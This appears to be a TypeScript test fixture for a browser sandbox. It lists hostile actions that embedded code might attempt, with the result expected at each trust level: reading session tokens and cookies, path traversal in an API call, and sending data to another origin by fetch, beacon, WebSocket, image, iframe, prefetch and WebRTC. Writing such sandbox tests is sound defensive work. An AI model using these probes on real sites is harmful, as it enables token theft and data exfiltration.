import type { HostileAction } from './hostile-action';

const refused = { gets: 'refused (SecurityError)' };

/** Reads what is the person's or the site's, and asks for what the device has. */
export const dataAccess: readonly HostileAction[] = [
  {
    does: 'reads the token of the session in the storage',
    run: async () => {
      const stored = Object.keys(localStorage).some((key) => key.startsWith('firebase:'));
      const databases = (await indexedDB.databases()).some(({ name }) => name?.startsWith('firebase'));
      return stored || databases ? 'gets it' : 'gets nothing';
    },
    trusted: { gets: 'gets it' },
    watched: [],
    guest: refused,
  },
  {
    does: 'reads the cookies',
    run: () => (typeof document.cookie === 'string' ? 'may read them' : 'gets nothing'),
    trusted: { gets: 'may read them' },
    watched: [],
    guest: refused,
  },
  {
    does: 'reads the document of the site',
    run: () => (top!.document.querySelector('nav') ? 'gets it' : 'gets nothing'),
    trusted: { gets: 'gets it' },
    watched: [],
    guest: refused,
  },
  {
    does: 'calls the API by itself',
    run: async () => `answered ${(await fetch('/api/court-terms')).status}`,
    trusted: { gets: 'answered 200' },
    watched: [],
    guest: { gets: 'refused (TypeError)' },
  },
  {
    does: 'makes a call that the site allows its guest',
    run: async ({ call }) => `answered ${(await call!('GET', '/court-terms')).status}`,
    guest: { gets: 'answered 200' },
  },
  {
    does: 'makes a call that the site does not allow its guest',
    run: async ({ call }) => {
      const { status, body } = await call!('GET', '/cart');
      return `answered ${status} (${body?.code})`;
    },
    guest: { gets: 'answered 403 (not_allowed)' },
  },
  {
    does: 'leads an allowed call to another one by dots',
    run: async ({ call }) => `answered ${(await call!('GET', '/court-terms/../cart')).status}`,
    guest: { gets: 'answered 403' },
  },
  {
    does: 'asks for the camera',
    // Not every browser without a window knows the call itself.
    run: () =>
      (
        document as unknown as { featurePolicy: { allowsFeature: (name: string) => boolean } }
      ).featurePolicy.allowsFeature('camera')
        ? 'may ask'
        : 'refused',
    trusted: { gets: 'refused' },
    watched: [],
    guest: { gets: 'refused' },
  },
  {
    does: 'asks for the position',
    run: () =>
      new Promise((resolve) => {
        navigator.geolocation.getCurrentPosition(
          () => resolve('gets it'),
          ({ code }) => resolve(`refused (${code})`),
        );
      }),
    pressed: true,
    trusted: { gets: 'refused (1)' },
    watched: ['asks for a device that the site does not allow: geolocation'],
    guest: { gets: 'refused (1)' },
  },
  {
    does: 'registers the service worker of the site again',
    run: async () => {
      await navigator.serviceWorker.register('/push-worker.js');
      return 'registered';
    },
    trusted: { gets: 'registered' },
    watched: [],
    guest: refused,
  },
  {
    sends: true,
    does: 'sends data to another origin by fetch, beacon, socket, image, frame, style and prefetch',
    run: async ({ stranger }) => {
      await fetch(`${stranger}/fetch`, { mode: 'no-cors' }).catch(() => undefined);
      navigator.sendBeacon(`${stranger}/beacon`);
      try {
        new WebSocket(stranger.replace('http', 'ws'));
        // oxlint-disable-next-line no-empty
      } catch {}
      new Image().src = `${stranger}/image`;
      const frame = document.createElement('iframe');
      frame.src = `${stranger}/frame`;
      const style = Object.assign(document.createElement('link'), { rel: 'stylesheet', href: `${stranger}/style` });
      const prefetch = Object.assign(document.createElement('link'), { rel: 'prefetch', href: `${stranger}/prefetch` });
      document.body.append(frame, style, prefetch);
      return 'refused';
    },
    trusted: { gets: 'refused' },
    watched: ['tries to reach another site, which the site does not allow'],
    guest: { gets: 'refused' },
  },
  {
    sends: true,
    does: 'sends data to another origin by a peer connection',
    run: async ({ stranger }) => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: stranger.replace('http://', 'stun:') }] });
      peer.createDataChannel('data');
      await peer.setLocalDescription(await peer.createOffer());
      const isGathered = () => peer.iceGatheringState === 'complete';
      await new Promise<void>((resolve) => {
        peer.onicegatheringstatechange = () => void (isGathered() && resolve());
        setTimeout(resolve, 1_000);
      });
      return 'tries it';
    },
    trusted: { gets: 'tries it', leaks: true },
    watched: ['makes a connection to another browser'],
    guest: { gets: 'tries it', leaks: true },
  },
];
